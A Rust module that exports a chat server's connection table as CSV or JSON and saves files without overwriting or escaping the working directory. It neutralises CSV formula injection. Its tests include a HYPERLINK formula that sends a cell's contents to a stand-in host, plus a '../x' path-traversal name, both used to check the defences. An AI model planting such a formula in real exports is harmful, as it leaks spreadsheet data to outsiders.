//! The table as a file, and a row as a line: for other programs and for reports.
//!
//! Fields have the names of the operator's `connections`, and never change them. Rooms are a count, spans are whole
//! seconds, and an unknown value is `null`, so that every row has every field.

use std::fmt::Write as _;
use std::fs::{self, File};
use std::io::{self, Write as _};
use std::path::{Component, Path};

use super::model::{Model, log, send_q};
use crate::model::event::Event;
use crate::model::snapshot::{Flags, Row, Terminal};
use crate::time;

/// File names that are tried.
const SAME_NAME_MAX: usize = 100;

/// The format of the file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Format {
    /// RFC 4180, one row for each connection.
    Csv,
    /// RFC 8259, an array of objects.
    Json,
}

impl Format {
    /// The end of the file's name.
    pub(crate) const fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Json => "json",
        }
    }
}

enum Value {
    List(Vec<&'static str>),
    None,
    Number(u64),
    Text(String),
}

impl From<Option<u64>> for Value {
    fn from(number: Option<u64>) -> Self {
        number.map_or(Self::None, Self::Number)
    }
}

impl From<Option<String>> for Value {
    fn from(text: Option<String>) -> Self {
        text.map_or(Self::None, Self::Text)
    }
}

/// These rows of the model, in this order.
pub(crate) fn table(model: &Model, rows: impl Iterator<Item = usize>, format: Format) -> String {
    match format {
        Format::Csv => csv(model, rows),
        Format::Json => json(model, rows),
    }
}

/// A row as `field=value`, for pasting into a report.
pub(crate) fn one_line(model: &Model, index: usize) -> String {
    let mut line = String::new();
    for (name, value) in fields(model, index) {
        let text = plain(&value);
        if !text.is_empty() {
            // Writing to a String cannot fail.
            let _ = write!(line, "{}{name}={text}", if line.is_empty() { "" } else { " " });
        }
    }
    line
}

/// An event as a line, for pasting into a report.
pub(crate) fn event_line(entry: &Event) -> String {
    let record = &entry.kind;
    let id = record.subject().map(|id| format!(" {id}")).unwrap_or_default();
    let nick = record.nick().map(|nick| format!(" {nick}")).unwrap_or_default();
    format!("{} {}{id}{nick} {}", time::time_of_day(entry.at), record.word(), log::format_event(record, true))
}

fn fields(model: &Model, index: usize) -> Vec<(&'static str, Value)> {
    let row = &model.rows()[index];
    let end = row.gone_at.unwrap_or(model.taken().moment);
    let mut fields = vec![
        ("id", Value::Number(row.id.get())),
        ("nick", row.nick.map(|nick| nick.to_string()).into()),
        ("peer", Value::Text(row.peer.to_string())),
        ("listener", model.status().listeners.get(usize::from(row.listener)).cloned().into()),
        ("state", Value::Text(row.state.to_string())),
        ("age_s", Value::Number(end.since(row.since).as_secs())),
        ("idle_s", Value::Number(end.since(row.heard).as_secs())),
        ("rooms", Value::Number(u64::from(row.rooms))),
    ];
    fields.extend(amounts(row));
    fields.extend([
        ("read", Value::Text(row.read.to_string())),
        ("write", Value::Text(row.write.to_string())),
        ("flags", Value::List(words(row.flags))),
        ("reason", row.reason.as_ref().map(ToString::to_string).into()),
    ]);
    fields.extend(terminal(row.terminal.as_deref()));
    fields
}

fn amounts(row: &Row) -> [(&'static str, Value); 13] {
    let rtt = row.kernel.and_then(|kernel| kernel.tcp).map(|tcp| u64::from(tcp.rtt_us));
    [
        ("bytes_in", Value::Number(row.bytes_in)),
        ("bytes_out", Value::Number(row.bytes_out)),
        ("lines_in", Value::Number(row.lines_in)),
        ("lines_incomplete", Value::Number(row.lines_incomplete)),
        ("lines_out", Value::Number(row.lines_out)),
        ("lines_skipped", Value::Number(row.lines_skipped)),
        ("inbox_bytes", Value::Number(row.inbox_bytes)),
        ("outbox_bytes", Value::Number(row.outbox_bytes)),
        ("outbox_age_s", row.outbox_age.map(|age| age.as_secs()).into()),
        ("outbox_max", Value::Number(row.outbox_max)),
        ("recv_q", row.kernel.map(|kernel| u64::from(kernel.recv_q)).into()),
        ("send_q", Value::Number(send_q(row))),
        ("rtt_us", rtt.into()),
    ]
}

fn terminal(terminal: Option<&Terminal>) -> [(&'static str, Value); 3] {
    let cells = |side: fn(&Terminal) -> u16| terminal.map(side).filter(|cells| *cells > 0).map(u64::from);
    [
        ("terminal", terminal.and_then(|terminal| terminal.name.as_deref().map(str::to_owned)).into()),
        ("terminal_columns", cells(|terminal| terminal.columns).into()),
        ("terminal_rows", cells(|terminal| terminal.rows).into()),
    ]
}

fn words(flags: Flags) -> Vec<&'static str> {
    flags.words().collect()
}

fn plain(value: &Value) -> String {
    match value {
        Value::List(words) => words.join(","),
        Value::None => String::new(),
        Value::Number(number) => number.to_string(),
        Value::Text(text) => text.clone(),
    }
}

fn csv(model: &Model, rows: impl Iterator<Item = usize>) -> String {
    let mut text = String::new();
    for index in rows {
        let fields = fields(model, index);
        if text.is_empty() {
            let names: Vec<&str> = fields.iter().map(|(name, _)| *name).collect();
            text = names.join(",") + "\r\n";
        }
        let cells: Vec<String> = fields.iter().map(|(_, value)| cell(value)).collect();
        text.push_str(&cells.join(","));
        text.push_str("\r\n");
    }
    text
}

/// A cell of a table. What a client chose and a spreadsheet would run as a formula begins with an apostrophe, which
/// makes it text there (OWASP, "CSV Injection").
fn cell(value: &Value) -> String {
    let text = plain(value);
    let is_chosen = matches!(value, Value::Text(_));
    if is_chosen && is_run_by_spreadsheets(&text) { quoted(&format!("'{text}")) } else { quoted_cell(&text) }
}

/// Whether the text begins as formulas do, also in full width, or with characters that spreadsheets skip before one.
fn is_run_by_spreadsheets(text: &str) -> bool {
    let is_skipped = |c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}';
    let begins_formula = |c: char| ['=', '+', '-', '@', '＝', '＋', '－', '＠'].contains(&c);
    text.starts_with(['\t', '\r', '\n']) || text.trim_start_matches(is_skipped).starts_with(begins_formula)
}

/// Quotes cells as RFC 4180 requires, and those with a separator of locales whose decimal point is a comma.
fn quoted_cell(text: &str) -> String {
    if text.contains([',', '"', '\r', '\n', ';', '\t']) { quoted(text) } else { text.to_owned() }
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Writes a new file into the working directory: as `name`, or with a number added where that exists. Returns the
/// notice for the operator. A file that cannot be written completely is removed.
pub(crate) fn save(name: &str, contents: &str) -> Result<String, String> {
    save_with(name, |file| file.write_all(contents.as_bytes()).and_then(|()| file.sync_all()))
}

fn save_with(name: &str, write: impl FnOnce(&mut File) -> io::Result<()>) -> Result<String, String> {
    if !matches!(Path::new(name).components().collect::<Vec<_>>()[..], [Component::Normal(plain)] if plain == name)
    {
        return Err(format!("not saved: {name} is no plain file name"));
    }
    let (stem, extension) = name.rsplit_once('.').unwrap_or((name, ""));
    let names = (1..=SAME_NAME_MAX).map(|number| match number {
        1 => name.to_owned(),
        _ if extension.is_empty() => format!("{stem}-{number}"),
        _ => format!("{stem}-{number}.{extension}"),
    });
    for name in names {
        let mut file = match File::create_new(&name) {
            Ok(file) => file,
            Err(error) if error.kind() == io::ErrorKind::AlreadyExists => continue,
            Err(error) => return Err(format!("not saved: {name}: {error}")),
        };
        return match write(&mut file) {
            Ok(()) => Ok(format!("saved as {name}")),
            Err(error) => {
                // This process created the file, so no other file is removed.
                let _ = fs::remove_file(&name);
                Err(format!("not saved: {name}: {error}"))
            }
        };
    }
    Err(format!("not saved: {name} and {SAME_NAME_MAX} names like it exist"))
}

fn json(model: &Model, rows: impl Iterator<Item = usize>) -> String {
    let objects: Vec<String> = rows
        .map(|index| {
            let members: Vec<String> = fields(model, index)
                .iter()
                .map(|(name, value)| format!("\"{name}\":{}", json_value(value)))
                .collect();
            format!("{{{}}}", members.join(","))
        })
        .collect();
    format!("[\n{}\n]\n", objects.join(",\n"))
}

fn json_value(value: &Value) -> String {
    match value {
        Value::List(words) => {
            let words: Vec<String> = words.iter().map(|word| json_text(word)).collect();
            format!("[{}]", words.join(","))
        }
        Value::None => "null".to_owned(),
        Value::Number(number) => number.to_string(),
        Value::Text(text) => json_text(text),
    }
}

/// A string of RFC 8259, section 7.
fn json_text(text: &str) -> String {
    let mut quoted = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\\' => quoted.extend(['\\', c]),
            c if c < ' ' => {
                // Writing to a String cannot fail.
                let _ = write!(quoted, "\\u{:04x}", u32::from(c));
            }
            c => quoted.push(c),
        }
    }
    quoted.push('"');
    quoted
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_and_quote_characters_are_escaped() {
        assert_eq!(json_text("a\"b\\c\n\u{1}é"), "\"a\\\"b\\\\c\\u000a\\u0001é\"");
        assert_eq!(quoted_cell("a,\"b\""), "\"a,\"\"b\"\"\"");
        assert_eq!(quoted_cell("plain"), "plain");
    }

    #[test]
    fn a_cell_that_begins_like_a_formula_is_quoted_as_text() {
        let text = |text: &str| cell(&Value::Text(text.to_owned()));
        for (typed, written) in [
            ("=HYPERLINK(\"http://e.x/\"&A1,\"ok\")", "\"'=HYPERLINK(\"\"http://e.x/\"\"&A1,\"\"ok\"\")\""),
            ("-bob", "\"'-bob\""),
            ("+1", "\"'+1\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\tx", "\"'\tx\""),
            ("\rx", "\"'\rx\""),
            ("  =1", "\"'  =1\""),
            ("\u{feff}＝1", "\"'\u{feff}＝1\""),
            ("x;=1", "\"x;=1\""),
            ("a-b", "a-b"),
            ("alice", "alice"),
        ] {
            assert_eq!(text(typed), written, "{typed:?}");
        }
        assert_eq!(cell(&Value::Number(7)), "7");
        assert_eq!(cell(&Value::None), "");
    }

    #[test]
    fn a_file_is_saved_in_the_working_directory_and_never_replaces_another() {
        assert!(save("../x", "").expect_err("elsewhere").contains("plain file name"));
        assert!(save("", "").is_err() && save("..", "").is_err() && save("a/", "").is_err());
        let stem = format!("chatops-test-{}", std::process::id());
        let names = [format!("{stem}.txt"), format!("{stem}-2.txt")];
        let saved = [save(&names[0], "text"), save(&names[0], "other")];
        let contents = names.clone().map(|name| fs::read_to_string(name).ok());
        for name in &names {
            let _ = fs::remove_file(name);
        }
        assert_eq!(saved, names.map(|name| Ok(format!("saved as {name}"))), "two exports in one second");
        assert_eq!(contents, ["text", "other"].map(|text| Some(text.to_owned())));
    }

    #[test]
    fn a_file_that_is_written_in_part_is_removed() {
        let name = format!("chatops-test-full-{}.txt", std::process::id());
        let full = save_with(&name, |file| {
            file.write_all(b"half")?;
            Err(io::ErrorKind::StorageFull.into())
        });
        assert!(full.expect_err("the disk is full").starts_with("not saved: "));
        assert!(!Path::new(&name).exists(), "half a file is no export");
    }
}
